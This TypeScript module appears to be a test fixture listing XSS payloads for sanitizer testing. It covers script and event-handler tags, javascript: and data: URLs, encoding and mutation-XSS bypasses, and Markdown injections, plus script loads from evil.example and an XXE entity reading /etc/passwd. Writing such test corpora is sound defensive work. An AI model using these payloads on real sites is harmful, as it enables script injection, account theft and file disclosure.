/**
 * Texts that would run as a script if anything took them for markup. Each calls `xss(n)` or `alert(n)` with its own
 * number, so a test can report which one ran. Addresses on evil.example reveal requests. Each is one line, except for
 * `blocks`, which are for fields that allow several.
 */

const loaded = 'src=https://img.example/x.png';

/** Elements that run something on their own, as soon as they're there. */
const elements = (run: string): string[] => [
  `<script>${run}</script>`,
  `<script src=//evil.example/x.js></script>`,
  `<SCRIPT/x>${run}</SCRIPT>`,
  `<script type=module>${run}</script>`,
  `<script\t>${run}</script\t>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<<script>${run}//<</script>`,
  `<script>${run}`,
  `<img ${loaded} onerror=${run}>`,
  `<img ${loaded} onerror="${run}"`,
  `<img ${loaded} ONERROR='${run}'>`,
  `<img/${loaded}/onerror=${run}>`,
  `<img ${loaded} onerror=${run}//`,
  `<img ${loaded}\tonerror\t=\t${run}>`,
  `<img ${loaded} alt="\`" title="\`onerror=${run}">`,
  `<img ${loaded} alt='"' onerror='${run}' x='"'>`,
  `<img """><script>${run}</script>">`,
  `<image ${loaded} onerror=${run}>`,
  `<img srcset="https://img.example/y.png 1x" onload=${run} onerror=${run}>`,
  `<svg onload=${run}>`,
  `<svg/onload=${run}//`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="data:text/javascript,${run}"></script></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text x=1 y=9>a</text></a></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><set attributeName=onload to=${run}>`,
  `<svg><foreignObject><img ${loaded} onerror=${run}></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>${run}</script></svg>#x"/></svg>`,
  `<math><mi//xlink:href="data:x,<script>${run}</script>">`,
  `<math href="javascript:${run}">a</math>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe onload=${run} src=about:blank></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<object data="data:text/html,<script>parent.${run}</script>"></object>`,
  `<embed src="data:text/html,<script>${run}</script>">`,
  `<embed src="javascript:${run}">`,
  `<body onload=${run}>`,
  `<body onpageshow=${run}>`,
  `<html onmousemove=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}>`,
  `<textarea autofocus onfocus=${run}></textarea>`,
  `<button autofocus onfocus=${run}>a</button>`,
  `<a href=https://a.example autofocus tabindex=1 onfocus=${run}>a</a>`,
  `<details open ontoggle=${run}><summary>a</summary></details>`,
  `<video><source onerror=${run} src=https://img.example/v></video>`,
  `<video onloadstart=${run} src=https://img.example/v></video>`,
  `<video poster="javascript:${run}"></video>`,
  `<audio src=https://img.example/a onerror=${run}>`,
  `<marquee onstart=${run}>a</marquee>`,
  `<div style="animation-name:x" onanimationstart=${run}>a</div><style>@keyframes x{}</style>`,
  `<p style="background:url(javascript:${run})">a</p>`,
  `<p style="width:expression(${run})">a</p>`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<style onload=${run}></style>`,
  `<link rel=stylesheet href="https://evil.example/x.css" onload=${run}>`,
  `<link rel=import href="data:text/html,<script>${run}</script>">`,
  `<link rel=preload as=script href=https://evil.example/p.js>`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<meta http-equiv=Content-Security-Policy content="script-src 'unsafe-inline'">`,
  `<base href="https://evil.example/">`,
  `<form action="javascript:${run}"><input type=submit autofocus></form>`,
  `<form><button formaction="javascript:${run}">a</button></form>`,
  `<isindex type=image ${loaded} onerror=${run}>`,
  `<template><script>${run}</script></template>`,
  `<slot onslotchange=${run}></slot>`,
  `<x onfocus=${run} tabindex=1 autofocus>a</x>`,
  `<x contenteditable onfocus=${run} autofocus>a</x>`,
  `<dialog open onclose=${run}>a</dialog>`,
  `<applet code="javascript:${run}"></applet>`,
  `<frameset onload=${run}><frame src="javascript:${run}">`,
  `<table background="javascript:${run}"><tr><td>a</td></tr></table>`,
  `<bgsound src="javascript:${run}">`,
  `<keygen autofocus onfocus=${run}>`,
  `<noscript><p title="</noscript><img ${loaded} onerror=${run}>"></noscript>`,
  `<textarea><img title="</textarea><img ${loaded} onerror=${run}>"></textarea>`,
  `<title><img title="</title><img ${loaded} onerror=${run}>"></title>`,
  `<xmp><p title="</xmp><svg onload=${run}>"></xmp>`,
  `<noembed><p title="</noembed><svg onload=${run}>"></noembed>`,
  `<noframes><p title="</noframes><svg onload=${run}>"></noframes>`,
  `<plaintext><img ${loaded} onerror=${run}>`,
  `<listing>&lt;img ${loaded} onerror=${run}&gt;</listing>`,
  `<form><math><mtext></form><form><mglyph><style></math><img ${loaded} onerror=${run}>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img ${loaded} onerror=${run}&gt;">`,
  `<math><annotation-xml encoding="text/html"><style><img title="</style><img ${loaded} onerror=${run}>"></style></annotation-xml></math>`,
  `<svg></p><style><a id="</style><img ${loaded} onerror=${run}>">`,
  `<svg><p><style><!--</style><img title="--><img ${loaded} onerror=${run}>">`,
  `<svg><title><svg><style>&lt;img ${loaded} onerror=${run}&gt;</style></svg></title></svg>`,
  `<select><template><style><!--</style><img ${loaded} onerror=${run}>--></template></select>`,
  `<table><td><svg><desc><td><img ${loaded} onerror=${run}></td></desc></svg></table>`,
  `<!--><img ${loaded} onerror=${run}>-->`,
  `<!-- --!><img ${loaded} onerror=${run}> -->`,
  `<!--- ><img ${loaded} onerror=${run}>--->`,
  `<![CDATA[<img ${loaded} onerror=${run}>]]>`,
  `<![><img ${loaded} onerror=${run}>]>`,
  `<?xml version="1.0"?><img ${loaded} onerror=${run}>`,
  `<?php><img ${loaded} onerror=${run}>?>`,
  `</ x><img ${loaded} onerror=${run}>`,
  `<a/onclick=${run} href=https://a.example>a</a>`,
  `<b onmouseover=${run}>a</b>`,
  `<p id=content class=banner name=currentScript onclick=${run}>a</p>`,
];

/** What would break out of the place where a text is: an attribute, an element, a comment or a script. */
const leaving = [
  '"',
  "'",
  '">',
  "'>",
  '`>',
  '</title>',
  '</p></div></article></main>',
  '</script>',
  '</style>',
  '</textarea>',
  '-->',
  ']]>',
  '</svg>',
  '?>',
  '*/',
  '\\"',
  '&quot;>',
  '"/>',
];
const behind = (run: string): string[] => [
  `<script>${run}</script>`,
  `<img ${loaded} onerror=${run}>`,
  `<svg onload=${run}>`,
];
const attributes = (run: string): string[] => [
  ...['"', "'", '', '`'].flatMap((quote) => [
    `a${quote} onmouseover=${quote}${run}`,
    `a${quote} autofocus tabindex=1 onfocus=${quote}${run}`,
    `a${quote} style=${quote}animation-name:x${quote} onanimationstart=${quote}${run}`,
  ]),
];

/** Addresses that run something when they're followed. */
const addresses = (run: string): string[] => [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  `%6Aavascript:${run}`,
  `&#106;avascript:${run}`,
  `&#x6A;avascript:${run}`,
  `&#0000106avascript:${run}`,
  `javascript&colon;${run}`,
  `java&Tab;script:${run}`,
  `java&NewLine;script:${run}`,
  `&#1;javascript:${run}`,
  `&nbsp;javascript:${run}`,
  `javascript://https://a.example/%0A${run}`,
  `javascript:/*https://a.example*/${run}`,
  `\\javascript:${run}`,
  `javascript\\:${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD54c3MoMSk8L3NjcmlwdD4=`,
  `data:image/svg+xml,<svg onload=${run}>`,
  `vbscript:${run}`,
  `feed:javascript:${run}`,
  `view-source:javascript:${run}`,
  `blob:https://a.example/x`,
  `//evil.example/\tjavascript:${run}`,
];

/** Ways to put an address in Markdown or HTML. */
const links: readonly ((address: string) => string)[] = [
  (address) => `[a](${address})`,
  (address) => `[a](<${address}>)`,
  (address) => `<a href="${address}">a</a>`,
];

/** Markdown that hides its content, or that a careless parser puts together incorrectly. */
const markdown = (run: string): string[] => [
  `[a](https://a.example "" onmouseover="${run}")`,
  `[a](https://a.example '" onmouseover="${run}')`,
  `[a](https://a.example/" onmouseover="${run})`,
  `[a](<https://a.example/" onmouseover="${run}>)`,
  `![" onerror="${run}](https://img.example/x.png)`,
  `![a](https://img.example/x.png" onerror="${run})`,
  `![a](https://img.example/x.png '" onerror="${run}')`,
  `![a](<https://img.example/x.png"onerror="${run}>)`,
  `[<img ${loaded} onerror=${run}>](https://a.example)`,
  `<https://a.example/" onmouseover="${run}>`,
  `<javascript:${run}>`,
  `https://a.example/"onmouseover="${run}`,
  `https://a.example/<script>${run}</script>`,
  `www.a.example"><svg/onload=${run}>`,
  `a@a.example"onmouseover="${run}`,
  `**<img ${loaded} onerror=${run}>**`,
  `\`\`<img ${loaded} onerror=${run}>\``,
  `\`<img ${loaded} onerror=${run}>`,
  `# <svg onload=${run}>`,
  `> <svg onload=${run}>`,
  `- <svg onload=${run}>`,
  `\\<svg onload=${run}>`,
  `&lt;svg onload=${run}&gt;`,
  `&amp;lt;script&amp;gt;${run}&amp;lt;/script&amp;gt;`,
  `&#60;script&#62;${run}&#60;/script&#62;`,
  `&#x3c;img ${loaded} onerror=${run}&#x3e;`,
];

/** What languages other than HTML would act on: templates, JSON, XML, old encodings. */
const others = (run: string): string[] => [
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `<%= ${run} %>`,
  `#{${run}}`,
  `{${run}}`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `\\x3cscript\\x3e${run}\\x3c/script\\x3e`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${run}</x:script>`,
  `]]><x:script xmlns:x="http://www.w3.org/1999/xhtml">${run}</x:script><![CDATA[`,
  `<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>`,
  `<?xml-stylesheet type="text/xsl" href="https://evil.example/x.xsl"?>`,
  `"}]}</script><script>${run}</script>`,
  `"-${run}-"`,
  `';${run};//`,
  `\\';${run};//`,
  `*/${run}/*`,
  `\uff1cscript\uff1e${run}\uff1c/script\uff1e`,
  `<\u017fcript>${run}</\u017fcript>`,
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${run} )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/<sVg/oNloAd=${run}//>`,
];

/** Texts of several lines, for fields that allow them. */
const several = (run: string): string[] => [
  `[a]\n\n[a]: javascript:${run}`,
  `[a]: https://a.example '" onmouseover="${run}'\n\n[a]`,
  `| a |\n| - |\n| <svg onload=${run}> |`,
  `| a | b |\n| - | - |\n| \`|<svg onload=${run}>\` |`,
  `<div>\n\n<svg onload=${run}>\n\n</div>`,
  `<pre>\n<svg onload=${run}>\n</pre>`,
  `<script>\n\n${run}\n\n</script>`,
  `<style>\n</style\n><svg onload=${run}>`,
  `<img ${loaded}\nonerror\n=\n${run}\n>`,
  `<a href="java\nscript:${run}">a</a>`,
  `[a](java\nscript:${run})`,
  `    <svg onload=${run}>\n\n<svg onload=${run}>`,
  `\`\`\`html"><svg onload=${run}>\n<svg onload=${run}>\n\`\`\``,
  `~~~ " onmouseover="${run}\na\n~~~`,
  `<!--\n-->\n<svg onload=${run}>`,
  `<p\ntitle="\n\n"><svg onload=${run}>`,
  `a\n<svg\nonload=${run}\n>`,
  `1. a\n\n   <svg onload=${run}>\n2. b`,
];

function numbered(make: (run: string) => string[], from: number): string[] {
  // Calls alternate between the two functions. Test pages have both, and an attribute without quotes can contain
  // either.
  return make('xss(0)').map(
    (_, index) => make(`${(from + index) % 2 === 0 ? 'xss' : 'alert'}(${from + index})`)[index] ?? '',
  );
}

const lineKinds: readonly ((run: string) => string[])[] = [
  elements,
  (run) => leaving.flatMap((way) => behind(run).map((what) => `${way}${what}`)),
  attributes,
  (run) => addresses(run).flatMap((address) => links.map((link) => link(address))),
  addresses,
  markdown,
  others,
];

function all(kinds: readonly ((run: string) => string[])[], from: number): string[] {
  return kinds.reduce<string[]>((found, make) => [...found, ...numbered(make, from + found.length)], []);
}

/** Payloads of one line. */
export const lines: readonly string[] = [...new Set(all(lineKinds, 1))];

/** Payloads of several lines. */
export const blocks: readonly string[] = all([several], lines.length + 1);
